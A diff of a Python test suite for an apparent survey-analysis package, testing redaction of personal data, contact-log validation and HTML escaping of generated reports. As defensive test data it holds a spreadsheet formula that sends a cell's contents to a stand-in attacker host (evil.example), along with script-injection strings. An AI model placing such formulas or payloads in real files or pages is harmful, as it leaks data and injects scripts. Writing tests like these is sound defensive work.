@@ -137,6 +137,7 @@ CHECK_CASES = [
     ("undeclared-harmless", add_column("region", ["north", "south"]), 0, r"^(?![\s\S]*undeclared_identifier)[\s\S]*OK"),
     ("undeclared-email-refused", both(add_column("contact", ["jan.kok@example.com"]), policy("error")), 1, r"column 'contact': 2000 value\(s\) in a column the codebook does not declare holding e-mail at row\(s\) 2, 3, 4"),
     ("segment-label-email", segment_label("premium", "premium jan.kok@example.com"), 0, r"undeclared_identifier \(e-mail\)\s+segment\s+\d+.*redact"),
+    ("segment-label-name", both(add_name_column, segment_label("premium", "Jan Kok VIP")), 0, r"undeclared_identifier \(identifier\)\s+segment\s+\d+.*redact"),
     ("segment-label-email-refused", both(segment_label("premium", "vip jan(at)example.com"), policy("error")), 1, r"column 'segment': \d+ segment label\(s\) holding e-mail"),
     ("survey-and-contacts-both-reported", both(lambda p: edit_survey(p, lambda df: df.assign(wave=df["wave"].replace("2", SCRIPT))), drop_contact_column("started_at")), 1, r"not a whole-number wave[\s\S]*column\(s\) missing: 'started_at'"),
     ("wave-script", lambda p: edit_survey(p, lambda df: df.assign(wave=df["wave"].replace("2", SCRIPT))), 1, r"column 'wave': \d+ value\(s\) that are not a whole-number wave"),
@@ -181,6 +182,36 @@ def test_run_stops_on_broken_contact_log_and_keeps_previous_outputs(project, mak
     assert {"raw": digest(study_dir(project)), "reports": digest(reports), "processed": digest(processed)} == before
 
 
+def _log(**change):
+    from cxlab.contacts import REQUIRED_COLUMNS
+
+    values = {"any": ["x"], "string": ["phone"], "timestamp": [pd.Timestamp("2025-01-01", tz="UTC")],
+              "numeric": [1.0], "boolean": [False]}
+    return pd.DataFrame({c: values[k] for c, k in REQUIRED_COLUMNS.items()}).assign(**change)
+
+
+# (contact log in any form validate_contacts accepts, what it must say; None: usable)
+CONTACT_SOURCES = [
+    ("frame-ok", lambda tmp: _log(), None),
+    ("frame-no-customer", lambda tmp: _log().drop(columns="customer_id"), r"column\(s\) missing: 'customer_id'"),
+    ("frame-flags-as-text", lambda tmp: _log(abandoned=["no"]), r"column 'abandoned': must be true/false"),
+    ("csv-bad-timestamp", lambda tmp: (_log(started_at=["gisteren"]).to_csv(tmp / "log.csv", index=False), tmp / "log.csv")[1], r"log\.csv, column 'started_at': 1 value\(s\) that are not timestamps"),
+    ("database-no-table", lambda tmp: (__import__("duckdb").connect(str(tmp / "db.duckdb")).close(), (tmp / "db.duckdb", "contacts"))[1], r"table 'contacts': cannot be read as a contact log from .*db\.duckdb \(TableNotFound"),
+    ("file-missing", lambda tmp: tmp / "absent.parquet", r"Contact log not found: .*absent\.parquet"),
+]
+
+
+@pytest.mark.parametrize("make, expected", [c[1:] for c in CONTACT_SOURCES], ids=[c[0] for c in CONTACT_SOURCES])
+def test_validate_contacts_corpus(tmp_path, make, expected):
+    from cxlab.contacts import validate_contacts
+
+    problems = validate_contacts(make(tmp_path))
+    if expected is None:
+        assert problems == []
+    else:
+        assert len(problems) == 1 and re.search(expected, problems[0]), problems
+
+
 # ============================================================================ processed data
 def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch):
     """Undeclared identifier columns dropped, free text and segment labels redacted, CSVs formula-safe."""
@@ -190,7 +221,7 @@ def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch)
     monkeypatch.setenv("CXLAB_ROOT", str(project))
     monkeypatch.setenv("CXLAB_SECRET", "t" * 64)
     texts = ["Jan Kok here, mail jan(at)example.com", "IBAN NL91 ABNA 0417 1643 00 please",
-             "my number is C018471, call +31 20 123 4567", "Ann de Vries: a.devries [at] example [dot] com",
+             "my number is C999999, call +31 20 123 4567", "Ann de Vries: a.devries [at] example [dot] com",
              "fine, 4 stars on 2025-06-02 10:15"]
     formula = '=HYPERLINK("http://evil.example/?leak="&A1)'
 
@@ -210,23 +241,24 @@ def test_processed_data_holds_no_identifier_and_no_formula(project, monkeypatch)
     survey = pd.read_parquet(prepared.survey)
     assert "contact" not in survey.columns and "full_name" not in survey.columns and "region" in survey.columns
     comments = survey["comment"].dropna().unique().tolist()
-    assert sorted(set(comments)) == sorted({
-        "[identifier] here, mail [e-mail]", "IBAN [IBAN] please", "my number is [customer id], call [phone]",
-        "[identifier]: [e-mail]", "fine, 4 stars on 2025-06-02 10:15"} | {c for c in comments if "[identifier]" in c})
+    assert set(comments) == {"[identifier] here, mail [e-mail]", "IBAN [IBAN] please",
+                             "my number is [customer id], call [phone]", "[identifier]: [e-mail]",
+                             "fine, 4 stars on 2025-06-02 10:15"}
     everything = survey.astype(str).to_csv()
-    for leak in ("@example", "(at)", "[at]", "NL91", "Jan Kok", "Ann de Vries", "4567", "C018471"):
+    for leak in ("@example", "(at)", "[at]", "NL91", "Jan Kok", "Ann de Vries", "123 4567", "C999999"):
         assert leak not in everything, leak
     assert "premium [e-mail]" in set(survey["segment"])
     quality = pd.read_csv(prepared.directory / "quality.csv", dtype=str, keep_default_na=False)
     noted = quality.set_index("column")["problem"].to_dict()
     assert noted["contact"] == "undeclared_identifier (e-mail)" and noted["segment"] == "undeclared_identifier (e-mail)"
+    cells = {}
     for name in ("dictionary.csv", "quality.csv", "contact_problems.csv"):
         with open(prepared.directory / name, newline="", encoding="utf-8") as fh:
-            cells = [cell for row in csv.reader(fh) for cell in row]
-        risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
+            cells[name] = [cell for row in csv.reader(fh) for cell in row]
+        risky = [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t", "\r")
                  or (c[:1] == "-" and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))]
         assert risky == [], (name, risky)
-    assert "'" + formula in (prepared.directory / "dictionary.csv").read_text()
+    assert "'" + formula in cells["dictionary.csv"]  # the column name, neutralised
 
 
 # ============================================================================ identifier corpus
@@ -337,21 +369,46 @@ def _servqual(label):
                                       index=pd.Index([label, "x"], name="dimension")))
 
 
-# (describe function, how the payload gets in): every Markdown text built from data values
+def _levers(label):
+    from cxlab.levers import describe_levers, rank_levers
+
+    rng = np.random.default_rng(7)
+    df = pd.DataFrame({label: rng.normal(5, 1, 300), "waits": rng.poisson(0.4, 300)})
+    df["sat"] = 0.5 * df[label] - 0.3 * df["waits"] + rng.normal(0, 0.5, 300)
+    return describe_levers(rank_levers(df, "sat", [label], ["waits"], bootstrap=20, seed=1))
+
+
+def _fit_text(label):
+    from types import SimpleNamespace
+
+    from cxlab.sem import describe_fit
+
+    return describe_fit(SimpleNamespace(converged=False, warnings=[f"Heywood case: {label}"]))
+
+
+def _as_words(label):
+    """describe_levers writes variable names as words (``repeat_contacts`` -> repeat contacts)."""
+    return " ".join(label.replace("_", " ").split())
+
+
+# (describe function, how the payload gets in, how the payload reads in the text):
+# every Markdown text built from data values
 DESCRIBERS = [
-    ("monitor.describe_changes", lambda label: __import__("cxlab.monitor").monitor.describe_changes(_changes(label), group=None)),
-    ("reliability.describe_validity", lambda label: __import__("cxlab.reliability").reliability.describe_validity(_validity(label))),
-    ("quality.describe_quality", _describe_quality),
-    ("servqual.describe", _servqual),
+    ("levers.describe_levers", _levers, _as_words),
+    ("sem.describe_fit", _fit_text, str),
+    ("monitor.describe_changes", lambda label: __import__("cxlab.monitor").monitor.describe_changes(_changes(label), group=None), str),
+    ("reliability.describe_validity", lambda label: __import__("cxlab.reliability").reliability.describe_validity(_validity(label)), str),
+    ("quality.describe_quality", _describe_quality, str),
+    ("servqual.describe", _servqual, str),
 ]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
-@pytest.mark.parametrize("describe", [d[1] for d in DESCRIBERS], ids=[d[0] for d in DESCRIBERS])
-def test_describe_texts_escape_data_values(describe, payload):
+@pytest.mark.parametrize("describe, shown", [d[1:] for d in DESCRIBERS], ids=[d[0] for d in DESCRIBERS])
+def test_describe_texts_escape_data_values(describe, shown, payload):
     html = _rendered(describe(payload))
     assert _safe(html), html
-    assert payload in unescape(re.sub(r"<[^>]+>", "", html)), html  # shown as text
+    assert shown(payload) in unescape(re.sub(r"<[^>]+>", "", html)), html  # shown as text
 
 
 def test_methods_section_escapes_missing_codes(project, monkeypatch):
@@ -362,6 +419,23 @@ def test_methods_section_escapes_missing_codes(project, monkeypatch):
     edit_yaml(project, lambda d: d["codebook"]["missing_codes"].extend(list(PAYLOADS)))
     html = _rendered(methods_section(load_study(study_dir(project) / "study.yaml"), "data_quality"))
     assert _safe(html), html
+
+
+def test_index_page_escapes_titles_and_summaries(project, monkeypatch, tmp_path):
+    """The index page, even for a summary cell that wrote raw HTML or a script link itself."""
+    from cxlab.report import write_index
+    from cxlab.runner import NotebookRun
+    from cxlab.study import load_study
+
+    monkeypatch.setenv("CXLAB_ROOT", str(project))
+    edit_yaml(project, lambda d: d.update(title=f"T {SCRIPT}", description=f"{IMG} {LINK}"))
+    run = NotebookRun(name="01_x", seconds=1.0, html="01_x.html", title=SCRIPT,
+                      summary=f"**NPS** rose. {SCRIPT} {IMG} {LINK} <javascript:window.__x=1>")
+    write_index(tmp_path / "index.html", study=load_study(study_dir(project) / "study.yaml"), runs=[run],
+                seconds=1.0, code=False)
+    page = (tmp_path / "index.html").read_text()
+    assert _safe(page) and "<strong>NPS</strong>" in page
+    assert page.count("&lt;script&gt;window.__x=1&lt;/script&gt;") == 4  # title, heading, report link, summary
 
 
 # ============================================================================ degenerate data
